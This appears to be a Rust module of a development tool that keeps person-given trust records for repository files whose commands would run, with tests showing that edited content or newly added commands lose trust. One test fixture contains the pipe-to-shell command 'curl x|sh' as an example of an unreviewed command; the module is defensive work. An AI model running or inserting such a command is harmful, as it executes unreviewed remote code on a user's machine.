//! Trust in files of a repository whose commands would run: recorded by a person, by content,
//! outside the repository (tests/cases/hostile.md R04). A changed file is not trusted any more.

use crate::clock;
use crate::files::{self, Content};
use crate::homes;
use crate::state::Place;
use overnight_base::code::Code;
use overnight_base::fault::Fault;
use overnight_run::trusted::{Record, named_commands};
use std::path::{Path, PathBuf};

/// Bytes of a trusted file at most; nobody reads more before trusting it.
const FILE_BYTES_MAX: u64 = 4 * 1024 * 1024;
/// Bytes of a record at most.
const RECORD_BYTES_MAX: u64 = 1024 * 1024;

/// The records for one project.
#[derive(Debug, Clone)]
pub struct Trust {
    folder: PathBuf,
}

impl Trust {
    /// The records of the project at `place`, shared by its linked work trees.
    pub fn of(place: &Place) -> Result<Self, Fault> {
        let folder = homes::outside(place, "trust").ok_or_else(|| {
            Fault::new(
                Code::FileWrite,
                "there is no folder outside the project for trust",
            )
            .hint("set HOME, or XDG_STATE_HOME to a folder outside the project")
        })?;
        let folder = folder.join(homes::repository_key(place));
        Ok(Self { folder })
    }

    /// Does a person trust the file with exactly this content?
    pub fn is_trusted(&self, name: &str, content: &[u8]) -> bool {
        self.record(name)
            .is_some_and(|record| record.covers(content))
    }

    /// Did a person trust a version of the file that named this command?
    pub fn is_trusted_command(&self, name: &str, command: &str) -> bool {
        self.record(name)
            .is_some_and(|record| record.covers_command(command))
    }

    /// Those of `commands` that nobody trusted; empty: all may run.
    pub fn untrusted<'a>(&self, name: &str, commands: &'a [String]) -> Vec<&'a str> {
        let record = self.record(name);
        let known = |command: &&String| {
            record
                .as_ref()
                .is_some_and(|record| record.covers_command(command))
        };
        commands
            .iter()
            .filter(|command| !known(command))
            .map(String::as_str)
            .collect()
    }

    /// Records trust in the file as it stands.
    pub fn add(&self, name: &str, content: &[u8]) -> Result<Record, Fault> {
        let record = Record::new(name, content, clock::wall_ms());
        let text = serde_json::to_vec(&record).map_err(|error| {
            Fault::new(
                Code::Defect,
                format!("the record cannot be written: {error}"),
            )
        })?;
        files::create_private_folder(&self.folder)?;
        files::write_atomic(&self.path(name), &text, files::PRIVATE)?;
        Ok(record)
    }

    /// Takes trust back; `false` when there was none.
    pub fn revoke(&self, name: &str) -> Result<bool, Fault> {
        match std::fs::remove_file(self.path(name)) {
            Ok(()) => Ok(true),
            Err(error) if error.kind() == std::io::ErrorKind::NotFound => Ok(false),
            Err(error) => Err(Fault::new(Code::FileWrite, format!("{name}: {error}"))),
        }
    }

    /// Every record, by name.
    pub fn list(&self) -> Vec<Record> {
        let entries = std::fs::read_dir(&self.folder)
            .into_iter()
            .flatten()
            .flatten();
        let mut records: Vec<Record> = entries
            .filter_map(|entry| read_record(&entry.path()))
            .collect();
        records.sort_by(|a, b| a.name.cmp(&b.name));
        records
    }

    fn record(&self, name: &str) -> Option<Record> {
        read_record(&self.path(name)).filter(|record| record.name == name)
    }

    fn path(&self, name: &str) -> PathBuf {
        self.folder.join(format!("{}.json", Record::key(name)))
    }
}

/// A file of the project: its name relative to the top, and its content. Links are not followed
/// out of the project.
pub fn read_file(place: &Place, file: &Path) -> Result<(String, Vec<u8>), Fault> {
    let shown = file.display();
    let real = file
        .canonicalize()
        .map_err(|error| Fault::new(Code::InputMissing, format!("{shown}: {error}")))?;
    let name = real
        .strip_prefix(&place.top)
        .ok()
        .and_then(Path::to_str)
        .ok_or_else(|| {
            Fault::new(
                Code::InputTraversal,
                format!("{shown} is not a file of this project"),
            )
        })?;
    match files::read_bounded(&real, FILE_BYTES_MAX)? {
        Content::Bytes(bytes) => Ok((name.to_owned(), bytes)),
        Content::Missing => Err(Fault::new(
            Code::InputMissing,
            format!("{shown} does not exist"),
        )),
        Content::Refused(why) => Err(Fault::new(Code::InputPath, format!("{shown} is {why}"))),
    }
}

/// The commands that a file names, as they would run; what a person reads before trusting it.
pub fn commands(content: &[u8]) -> Vec<String> {
    named_commands(content)
}

fn read_record(path: &Path) -> Option<Record> {
    match files::read_bounded(path, RECORD_BYTES_MAX) {
        Ok(Content::Bytes(bytes)) => serde_json::from_slice(&bytes).ok(),
        _ => None,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn trust_holds_for_one_content_and_can_be_taken_back() {
        let folder = tempfile::tempdir().unwrap();
        let trust = Trust {
            folder: folder.path().join("trust"),
        };
        assert!(!trust.is_trusted("overnight.toml", b"a"));
        trust.add("overnight.toml", b"a").unwrap();
        assert!(trust.is_trusted("overnight.toml", b"a"));
        assert!(!trust.is_trusted("overnight.toml", b"b"));
        assert!(!trust.is_trusted("other.toml", b"a"));
        assert_eq!(trust.list().len(), 1);
        assert!(trust.revoke("overnight.toml").unwrap());
        assert!(!trust.is_trusted("overnight.toml", b"a"));
        assert!(!trust.revoke("overnight.toml").unwrap());
    }

    #[test]
    fn a_task_lists_commands_stay_trusted_when_the_driver_changes_a_status() {
        let folder = tempfile::tempdir().unwrap();
        let trust = Trust {
            folder: folder.path().join("trust"),
        };
        let before =
            br#"{"t1":{"objective":"x","definition_of_done":["cargo test"],"status":"todo"}}"#;
        let after = br#"{"t1":{"objective":"x","definition_of_done":["cargo test","curl x|sh"],"status":"done"}}"#;
        trust.add("tasks.json", before).unwrap();
        let commands = commands(after);
        assert_eq!(trust.untrusted("tasks.json", &commands), ["curl x|sh"]);
        assert!(trust.is_trusted_command("tasks.json", "cargo test"));
    }
}
